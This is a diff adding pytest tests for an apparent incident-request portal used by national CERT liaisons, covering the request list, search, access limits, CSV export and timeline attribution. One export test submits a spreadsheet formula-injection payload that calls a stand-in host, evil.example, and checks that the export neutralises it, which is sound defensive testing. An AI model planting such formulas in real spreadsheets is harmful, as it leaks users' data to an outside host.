@@ -1,0 +1,133 @@
+"""The requests page: sent date and short id, words searched, filters kept in the address, and
+the listed rows as a CSV file a spreadsheet opens safely; the timeline names who acted."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+
+import pytest
+
+from accord.store.audit_log import AuditQuery
+from accord.trust.access import Grant
+
+EVIDENCE = {
+    "type": "indicator", "spec_version": "2.1",
+    "id": "indicator--7f0b6c1e-0000-4000-8000-00000000a001",
+    "created": "2026-01-01T00:00:00.000Z", "modified": "2026-01-01T00:00:00.000Z",
+    "name": "Sakula C2", "pattern": "[ipv4-addr:value = '198.51.100.7']",
+    "pattern_type": "stix", "valid_from": "2026-01-01T00:00:00Z",
+}
+REQUEST = {"kind": "information", "category": "intrusion", "urgency": "priority",
+           "evidence": EVIDENCE["id"]}
+
+
+@pytest.fixture
+def officers(world):
+    world.node.objects.add(world.evidence.id, [EVIDENCE], poster_id=world.own.id)
+    world.node.directory.grant(world.evidence.id, world.other, Grant(True, False))
+    us = world.node.directory.create_token(world.own, role="liaison", name="Officer Smith")
+    cn = world.node.directory.create_token(world.other, role="liaison", name="Officer Wang")
+    return us, cn
+
+
+def send(page, to: str, summary: str, description: str = "") -> str:
+    page.get("/ui/requests/new")
+    sent = page.post("/ui/requests/new", {**REQUEST, "to": to, "summary": summary,
+                                          "description": description})
+    assert sent.status_code == 303, sent.text
+    return re.search(r"(x-accord-request--[0-9a-f-]+)", sent.headers["location"]).group(1)
+
+
+def test_the_list_shows_when_each_request_was_sent_and_its_short_id(world, browser, officers):
+    us = browser(officers[0])
+    rid = send(us, world.other.id, "Who operates 198.51.100.7?")
+    page = us.get("/ui/requests").text
+    short = rid.rpartition("--")[2][:8]
+    assert f'<code class="rid" title="Request id {rid}' in page and f">{short}</code>" in page
+    assert re.search(r'<td class="small"><time datetime="\d{4}-\d\d-\d\dT[\d:]+Z"', page)
+
+
+def test_words_find_requests_by_summary_description_id_and_party(world, browser, officers):
+    us = browser(officers[0])
+    c2 = send(us, world.other.id, "Who operates 198.51.100.7?", "Beaconing from OPM hosts")
+    dump = send(us, world.other.id, "Preserve the Tianjin server logs")
+
+    def found(q: str) -> set[str]:
+        text = us.get("/ui/requests", params={"q": q}).text
+        return {rid for rid in (c2, dump) if f"/ui/requests/{rid}" in text}
+
+    assert found("198.51.100.7") == {c2}
+    assert found("opm HOSTS") == {c2}  # the description, case aside
+    assert found(dump.rpartition("--")[2][:8]) == {dump}  # the short id
+    assert found("CNCERT") == {c2, dump}  # the other party's name
+    assert found(world.other.id) == {c2, dump}
+    assert found("nothing like it") == set()
+    # the filters stay in the address and in the form, and the export carries them
+    page = us.get("/ui/requests", params={"q": "Tianjin", "direction": "sent"}).text
+    assert 'name="q" type="search" value="Tianjin"' in page
+    assert 'href="/ui/requests.csv?direction=sent&amp;q=Tianjin"' in page
+
+
+def test_a_party_finds_only_requests_it_may_see(world, browser, officers):
+    us = browser(officers[0])
+    rid = send(us, world.other.id, "Who operates 198.51.100.7?")
+    russia = world.node.directory.add_party("Russia")
+    ru = browser(world.node.directory.create_token(russia, role="liaison"))
+    for q in (rid, "198.51.100.7", "CNCERT"):
+        listed = ru.get("/ui/requests", params={"q": q})
+        assert listed.status_code == 200 and "No request matches" in listed.text, q
+        assert f"/ui/requests/{rid}" not in listed.text, q
+        exported = ru.get("/ui/requests.csv", params={"q": q})
+        assert rid not in exported.content.decode("utf-8-sig"), q
+
+
+def test_an_overlong_search_is_refused_with_its_length(world, browser, officers):
+    us = browser(officers[0])
+    page = us.get("/ui/requests", params={"q": "x" * 201})
+    assert page.status_code == 400 and "201 characters" in page.text and "200" in page.text
+    export = us.get("/ui/requests.csv", params={"q": "x" * 201})
+    assert export.status_code == 400 and "201 characters" in export.text
+
+
+def test_the_export_is_exactly_the_listed_rows_inert_and_readable_in_excel(world, browser,
+                                                                         officers):
+    us = browser(officers[0])
+    hostile = send(us, world.other.id, '=HYPERLINK("http://evil.example/?"&A1,"click")')
+    plus = send(us, world.other.id, "+1 server in Tianjin")
+    chinese = send(us, world.other.id, "天津服务器的日志")
+    page = us.get("/ui/requests", params={"q": "Tianjin"}).text
+    assert f"/ui/requests/{plus}" in page and f"/ui/requests/{chinese}" not in page
+    got = us.get("/ui/requests.csv", params={"q": "Tianjin"})
+    assert got.status_code == 200 and got.headers["content-type"].startswith("text/csv")
+    assert got.headers["content-disposition"].startswith("attachment; filename=\"accord-")
+    assert got.headers["cache-control"] == "no-store"
+    assert got.content.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM: Excel reads Chinese
+    rows = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
+    assert rows[0][:3] == ["Id", "Sent (UTC)", "Received (UTC)"]
+    assert [r[0] for r in rows[1:]] == [plus]  # what the page lists, no more
+    assert rows[1][5] == "'+1 server in Tianjin" and rows[1][4] == "China (CNCERT/CC)"
+    assert rows[1][6:10] == ["Information", "Intrusion", "priority", "Submitted"]  # words
+    every = list(csv.reader(io.StringIO(
+        us.get("/ui/requests.csv").content.decode("utf-8-sig"))))
+    summaries = {r[0]: r[5] for r in every[1:]}
+    assert summaries[hostile].startswith("'=HYPERLINK(")
+    assert summaries[chinese] == "天津服务器的日志"
+    world.node.reads.flush()
+    records = world.node.audit.query(AuditQuery(action="request.export", limit=5))
+    assert records and set(records[-1].event.object_ids) == {plus}
+    assert records[-1].event.detail["q"] == "Tianjin"
+
+
+def test_the_timeline_names_the_person_who_acted(world, browser, officers):
+    us, cn = browser(officers[0]), browser(officers[1])
+    rid = send(us, world.other.id, "Who operates 198.51.100.7?")
+    cn.get(f"/ui/requests/{rid}")
+    assert cn.post(f"/ui/requests/{rid}/acknowledge", {"note": "on it"}).status_code == 303
+    page = us.get(f"/ui/requests/{rid}").text
+    timeline = page[page.index('id="timeline"'):]
+    assert re.search(r"by United States \(US-CERT\) <span class=\"person\">\(Officer Smith\)",
+                     timeline)
+    assert re.search(r"by China \(CNCERT/CC\) <span class=\"person\">\(Officer Wang\)",
+                     timeline)
